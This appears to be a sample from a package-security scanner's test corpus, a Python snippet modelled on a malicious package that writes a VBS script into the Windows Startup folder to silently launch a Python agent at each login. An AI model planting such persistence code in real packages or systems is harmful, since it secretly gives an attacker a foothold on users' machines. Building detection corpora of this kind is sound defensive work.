# pkgguard corpus 126 (persistence), modelled on [termncolor]; inert, never run.
import os

folder = os.path.expandvars(r"%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup")
with open(os.path.join(folder, "helper.vbs"), "w") as f:
    f.write('CreateObject("WScript.Shell").Run "pythonw -m pkg.agent", 0')
